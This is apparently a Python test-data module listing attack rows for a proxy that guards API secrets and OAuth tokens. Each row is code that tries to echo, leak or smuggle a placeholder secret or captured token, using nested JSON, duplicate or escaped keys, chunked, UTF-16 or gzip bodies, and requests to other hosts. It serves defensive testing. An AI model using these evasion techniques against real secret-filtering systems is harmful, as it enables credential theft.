"""Attempts on secrets in queries, bodies and answers: rows of test_secrets.py, for its program.

Inside, `M` is the placeholder of a secret for the host `MAPS`, which asked for the query's `key` and for the field
`secret` of bodies; `LAB` has a provider's row with credentials in bodies; logins at `LOGIN` are captured.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Row:
    """An attempt: the body of a function, and what shows that it succeeded.

    `reads`: what it returns has the value, or a token of a login. `sends`: one of these came to another host than its
    own, or outside of TLS. `brings`: a foreign credential came to anybody. `arrives`: the request to `/arrived` did.
    `publishes`: the value came to its host where its secret did not ask for it.
    """

    name: str
    shows: str
    code: str


FIELD_ROWS = (
    Row("an echo of a query", "reads", 'return raw(MAPS, request("/target?key=" + M, {}, host=MAPS))'),
    Row("an echo of a form", "reads", 'return post(MAPS, "/echo", "secret=" + M, FORM)'),
    Row("an echo of a body of JSON", "reads", 'return post(MAPS, "/echo", {"secret": M})'),
    Row("a value in a path", "publishes", 'return raw(MAPS, request("/" + M, {}, host=MAPS))'),
    Row("a value in another key", "publishes", 'return raw(MAPS, request("/target?q=" + M, {}, host=MAPS))'),
    Row("a value as a key", "publishes", 'return raw(MAPS, request(f"/target?{M}=key", {}, host=MAPS))'),
    Row("a value in a header", "publishes", 'return raw(MAPS, request("/", {"X-Own": M}, host=MAPS))'),
    Row("a value in another field", "publishes", 'return post(MAPS, "/echo", {"content": M})'),
    Row("a value in an inner object", "publishes", 'return post(MAPS, "/echo", {"content": {"secret": M}})'),
    Row("a value in a text of JSON", "publishes", """
        return post(MAPS, "/echo", json.dumps({"content": json.dumps({"secret": M}), "secret": ""}))
        """),
    Row("a value in two fields", "publishes", 'return post(MAPS, "/echo", {"content": M, "secret": M})'),
    Row("a value in another field of a form", "publishes", 'return post(MAPS, "/echo", f"a={M}&secret=", FORM)'),
    Row("a value in a part of a form", "publishes", """
        part = '--b\\r\\nContent-Disposition: form-data; name="secret"\\r\\n\\r\\n' + M + "\\r\\n--b--\\r\\n"
        return post(MAPS, "/echo", part, "multipart/form-data; boundary=b")
        """),
    Row("a foreign token in a form", "brings", 'return post(LAB, "/", f"a=b&private_token={FOREIGN}", FORM)'),
    Row("a foreign token in a query", "brings", """
        return raw(LAB, request(f"/?a=b&private%5Ftoken={FOREIGN}", {}, host=LAB))
        """),
    Row("a foreign token in JSON", "brings", 'return post(LAB, "/", {"private_token": FOREIGN})'),
    Row("a foreign token that stands twice", "brings", """
        return post(LAB, "/", '{"private_token": "", "private_token": "%s"}' % FOREIGN)
        """),
    Row("a foreign token with an escaped name", "brings", """
        return post(LAB, "/", '{"private\\\\u005ftoken": "%s"}' % FOREIGN)
        """),
    Row("a foreign token beside a type", "brings", 'return post(LAB, "/", {"private_token": FOREIGN}, "text/plain")'),
    Row("a foreign token in JSON as a form", "brings", 'return post(LAB, "/", {"private_token": FOREIGN}, FORM)'),
    Row("a foreign token in a part", "brings", """
        part = '--b\\r\\nContent-Disposition: form-data; name="private_token"\\r\\n\\r\\n' + FOREIGN
        return post(LAB, "/", part + "\\r\\n--b--\\r\\n", "multipart/form-data; boundary=b")
        """),
    Row("a foreign token in chunks", "brings", """
        head = request("/", {"Transfer-Encoding": "chunked", "Content-Type": FORM}, host=LAB, method="POST")
        return raw(LAB, head + b"8\\r\\nprivate_\\r\\n2e\\r\\ntoken=" + FOREIGN.encode() + b"\\r\\n0\\r\\n\\r\\n")
        """),
    Row("a foreign token in UTF-16", "arrives", """
        body = json.dumps({"private_token": FOREIGN}).encode("utf-16")
        return post(LAB, "/arrived", body, "application/json; charset=utf-16")
        """),
    Row("a foreign token in UTF-16 without a word", "arrives", """
        return post(LAB, "/arrived", json.dumps({"private_token": FOREIGN}).encode("utf-16-le"))
        """),
    Row("a foreign token behind a mark", "arrives", """
        return post(LAB, "/arrived", b"\\xef\\xbb\\xbf" + json.dumps({"private_token": FOREIGN}).encode())
        """),
    Row("a compressed foreign token", "arrives", """
        body = gzip.compress(json.dumps({"private_token": FOREIGN}).encode())
        return post(LAB, "/arrived", body, Content_Encoding="gzip")
        """),
    Row("a foreign token behind a megabyte", "arrives", """
        return post(LAB, "/arrived", {"a": "x" * (1 << 20), "private_token": FOREIGN})
        """),
    Row("a token of an answer", "reads", "return json.dumps(tokens()).encode()"),
    Row("a token of a form", "reads", """
        return post(LOGIN, "/v1/oauth/token", {"code": "abc"}, X_Form="form")
        """),
    Row("a token with escapes", "reads", 'return json.dumps(tokens(X_Form="escaped")).encode()'),
    Row("a token in an inner object", "reads", 'return json.dumps(tokens(X_Form="nested")).encode()'),
    Row("a token in a text", "reads", 'return json.dumps(tokens(X_Form="text")).encode()'),
    Row("a token of another path", "reads", 'return json.dumps(tokens("/v1/oauth/token/")).encode()'),
    Row("a token of the same path", "reads", 'return json.dumps(tokens("/v1/oauth/%74oken")).encode()'),
    Row("a token of a path with a query", "reads", 'return json.dumps(tokens("/v1/oauth/token?a=b")).encode()'),
    Row("an echo of a captured token", "reads", """
        return ask("/plain", {"Authorization": "Bearer " + tokens()["access_token"]})
        """),
    Row("a captured token at another host", "sends", """
        return raw(OTHER, request("/", {"Authorization": "Bearer " + tokens()["access_token"]}, host=OTHER), port=80)
        """),
    Row("a captured token at another secret's host", "sends", """
        return raw("api.openai.com", request("/", {"Authorization": "Bearer " + tokens()["access_token"]},
                                             host="api.openai.com"))
        """),
    Row("a captured token at its login", "sends", """
        return raw(LOGIN, request("/", {"Authorization": "Bearer " + tokens()["access_token"]}, host=LOGIN))
        """),
    Row("a captured token at another path", "sends", """
        return post(LOGIN, "/v1/revoke", {"refresh_token": tokens()["refresh_token"]})
        """),
    Row("a captured token in another field", "sends", """
        return post(LOGIN, "/v1/oauth/token", {"code": tokens()["refresh_token"]})
        """),
    Row("a foreign refresh token", "brings", """
        return post(LOGIN, "/v1/oauth/token", {"grant_type": "refresh_token", "refresh_token": FOREIGN})
        """),
    Row("a foreign refresh token in a form", "brings", """
        return post(LOGIN, "/v1/oauth/token", "grant_type=refresh_token&refresh_token=" + FOREIGN, FORM)
        """),
    Row("a foreign refresh token in a query", "brings", """
        return post(LOGIN, "/v1/oauth/token?refresh_token=" + FOREIGN, {"grant_type": "refresh_token"})
        """),
    Row("a foreign refresh token in another type", "brings", """
        return post(LOGIN, "/v1/oauth/token", "<refresh_token>" + FOREIGN, "application/xml")
        """),
)  # fmt: skip
